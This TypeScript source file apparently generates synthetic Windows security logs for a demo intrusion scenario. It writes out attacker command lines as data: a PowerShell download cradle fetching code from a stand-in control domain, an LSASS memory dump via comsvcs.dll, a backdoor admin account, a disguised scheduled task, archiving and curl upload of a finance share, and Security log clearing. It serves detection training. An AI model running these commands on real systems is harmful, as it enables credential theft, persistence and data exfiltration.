import { logConnection, logLookup } from '../activity/network.ts'
import { startRunCommand } from '../activity/run-command.ts'
import type { Process, Session, WindowsHost } from '../activity/windows-host.ts'
import { explicitCredentials, openShare } from '../activity/windows-servers.ts'
import { encodedCommand } from '../activity/workstations.ts'
import { hour, minute, on, second } from '../calendar.ts'
import { accounts, person } from '../company.ts'
import type { Logs } from '../logs.ts'
import { machineNamed } from '../machines.ts'
import type { Random } from '../random.ts'
import { domainAccount, subject } from '../rows/security-event.ts'
import { demoStory } from './story.ts'

const { attacker, times } = demoStory
const system32 = 'C:\\Windows\\System32\\'
const powershell = `${system32}WindowsPowerShell\\v1.0\\powershell.exe`
const administrator = domainAccount(accounts.adminFennimore)
const victim = person(demoStory.account.sam)

const cradle = (path: string) =>
  encodedCommand(`IEX (New-Object Net.WebClient).DownloadString('https://${attacker.controlDomain}/${path}')`)

/** From the VPN to the victim's workstation, from there to the file server; later the database server through Azure. */
export function moveThroughHosts(logs: Logs, hosts: (name: string) => WindowsHost, random: Random): void {
  onWorkstation(hosts(victim.workstation))
  onFileServer(hosts)
  beacon(logs, random)
  taskRuns(hosts('AF-FS01'))
  throughAzure(hosts('AF-SQL01'))
}

/** Commands typed into a shell, each so many seconds after the one before. */
function type(
  host: WindowsHost,
  start: number,
  session: Session,
  shell: Process,
  lines: readonly (readonly [pause: number, line: string])[],
): number {
  let at = start
  for (const [pause, line] of lines) {
    at += pause * second
    const name = line.split(' ')[0]
    host.start(at, session, `${system32}${name}.exe`, line, shell)
  }
  return at
}

function onWorkstation(host: WindowsHost): void {
  const start = times.workstation
  const session = host.desktop(start, domainAccount(victim), {
    type: 10,
    address: attacker.vpnAddress,
    clientName: attacker.machine,
    elevated: true,
  })
  const shell = host.start(start + 55 * second, session, `${system32}cmd.exe`)
  const at = type(host, start + minute, session, shell, [
    [12, 'whoami /all'],
    [22, 'ipconfig /all'],
    [31, 'net group "Domain Admins" /domain'],
    [17, 'nltest /dclist:corp.alderfinch.example'],
    [14, 'nltest /domain_trusts'],
    [26, 'quser'],
    [40, 'net view \\\\AF-FS01'],
  ])
  const loader = host.start(
    at + 50 * second,
    session,
    powershell,
    `powershell.exe -nop -w hidden -enc ${cradle('u/7')}`,
    shell,
  )
  host.start(at + 9 * minute, session, `${system32}tasklist.exe`, 'tasklist /fi "imagename eq lsass.exe"', loader)
  host.start(
    at + 10 * minute,
    session,
    `${system32}rundll32.exe`,
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 704 C:\\Windows\\Temp\\7.dat full',
    loader,
  )
  host.logoff(times.logCleared + 11 * minute, session)
}

function onFileServer(hosts: (name: string) => WindowsHost): void {
  const start = times.fileServer
  const host = hosts('AF-FS01')
  const from = { address: machineNamed(victim.workstation).address, clientName: victim.workstation }
  host.failedLogon(start, domainAccount(accounts.adminKilbride), { type: 3, ntlm: true, ...from }, '0xc000006a')
  host.failedLogon(
    start + 20 * second,
    domainAccount(accounts.adminGrote),
    { type: 3, ntlm: true, ...from },
    '0xc000006a',
  )
  const network = host.logon(start + 95 * second, administrator, { type: 3, ntlm: true, elevated: true, ...from })
  openShare(host, start + 97 * second, network, 'ADMIN$', from.address)
  const service = `%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -enc ${cradle('u/9')}`
  host.installService(start + 99 * second, network, 'WinHttpSync', service)
  const command = host.start(
    start + 100 * second,
    host.system,
    `${system32}cmd.exe`,
    service.replace('%COMSPEC%', 'C:\\Windows\\system32\\cmd.exe'),
    host.running(start, 'services'),
  )
  host.start(
    start + 101 * second,
    host.system,
    powershell,
    `powershell.exe -nop -w hidden -enc ${cradle('u/9')}`,
    command,
  )
  host.logoff(start + 6 * minute, network)

  const workstation = hosts(victim.workstation)
  const desktop = start + 12 * minute
  explicitCredentials(workstation, desktop - 3 * second, workstation.system, administrator, host.machine)
  const session = host.desktop(desktop, administrator, { type: 10, elevated: true, ...from })
  const shell = host.start(desktop + 40 * second, session, `${system32}cmd.exe`)
  const local = {
    sam: demoStory.localAccount,
    domain: host.machine.name,
    sid: 'S-1-5-21-3301187420-902715566-1460082213-1012',
  }
  host.start(desktop + 70 * second, session, `${system32}net.exe`, `net user ${local.sam} Tr4ining-only! /add`, shell)
  host.change(desktop + 71 * second, session, 4720, local, { SamAccountName: local.sam })
  host.change(desktop + 71 * second + 40, session, 4722, local)
  host.start(
    desktop + 88 * second,
    session,
    `${system32}net.exe`,
    `net localgroup Administrators ${local.sam} /add`,
    shell,
  )
  host.change(
    desktop + 89 * second,
    session,
    4732,
    { sam: 'Administrators', domain: 'Builtin', sid: 'S-1-5-32-544' },
    { MemberName: '-', MemberSid: local.sid },
  )
  const task = `powershell.exe -nop -w hidden -enc ${cradle('t')}`
  host.start(
    desktop + 3 * minute,
    session,
    `${system32}schtasks.exe`,
    `schtasks /create /tn \\Microsoft\\Windows\\Servicing\\CacheSweep /tr "${task}" /sc daily /st 03:30 /ru SYSTEM`,
    shell,
  )
  host.task(desktop + 3 * minute + 200, session, 4698, '\\Microsoft\\Windows\\Servicing\\CacheSweep', task)
  const at = type(host, desktop + 5 * minute, session, shell, [
    [10, 'net share'],
    [35, 'vssadmin list shadows'],
  ])
  host.start(
    at + minute,
    session,
    'C:\\Program Files\\7-Zip\\7z.exe',
    '7z.exe a -pQ3 -v200m C:\\Windows\\Temp\\q3.7z E:\\shares\\finance',
    shell,
  )
  host.start(
    at + 10 * minute,
    session,
    `${system32}curl.exe`,
    `curl.exe -T C:\\Windows\\Temp\\q3.7z.001 https://${attacker.controlDomain}/up`,
    shell,
  )
  host.start(times.logCleared, session, `${system32}wevtutil.exe`, 'wevtutil cl Security', shell)
  host.event(times.logCleared + 300, 1102, subject(administrator, session.id))
  host.logoff(times.logCleared + 3 * minute, session)

  const controller = hosts('AF-DC01')
  const directory = controller.logon(times.logCleared + 5 * minute, administrator, {
    type: 3,
    ntlm: true,
    address: host.machine.address,
    clientName: host.machine.name,
    elevated: true,
  })
  controller.logoff(times.logCleared + 7 * minute, directory)
}

// Both hosts call home every three quarters of an hour, give or take a tenth, until the end.
function beacon(logs: Logs, random: Random): void {
  for (const [source, start] of [
    [machineNamed(victim.workstation).address, times.workstation + 4 * minute],
    [machineNamed('AF-FS01').address, times.fileServer + 3 * minute],
  ] as const) {
    for (let at = start; at < times.end; at += random.between(0.675, 0.825) * hour) {
      logLookup(logs.lookups, at, source, attacker.controlDomain, attacker.controlAddress)
      logConnection(logs.connections, random, at + 80, {
        source,
        destination: attacker.controlAddress,
        port: 443,
        host: attacker.controlDomain,
        action: 'allow',
        sent: random.integer(700, 1400),
        received: random.integer(300, 900),
        rule: 'outbound-web',
      })
    }
  }
  const upload = times.logCleared - 14 * minute
  for (let part = 0; part < 4; part++) {
    logConnection(logs.connections, random, upload + part * 2 * minute, {
      source: machineNamed('AF-FS01').address,
      destination: attacker.controlAddress,
      port: 443,
      host: attacker.controlDomain,
      action: 'allow',
      sent: 209_715_200 + random.integer(0, 9000),
      received: random.integer(900, 4000),
      rule: 'outbound-web',
    })
  }
}

function taskRuns(host: WindowsHost): void {
  for (const dayOfMonth of [27, 28, 29, 30]) {
    const at = on(dayOfMonth, 3, 30)
    host.start(
      at,
      host.system,
      powershell,
      `powershell.exe -nop -w hidden -enc ${cradle('t')}`,
      host.running(at, 'scheduler'),
    )
  }
}

// What Azure's run command starts on the database server.
function throughAzure(host: WindowsHost): void {
  const at = times.azure + 11 * minute + 20 * second
  const script = startRunCommand(host, at)
  host.start(at + 4 * second, host.system, `${system32}whoami.exe`, 'whoami', script)
  host.start(at + 6 * second, host.system, `${system32}net.exe`, 'net localgroup administrators', script)
  host.start(
    at + 9 * second,
    host.system,
    'C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE',
    `sqlcmd -S AF-SQL01 -E -Q "backup database Ledger to disk='C:\\Windows\\Temp\\l.bak'"`,
    script,
  )
}
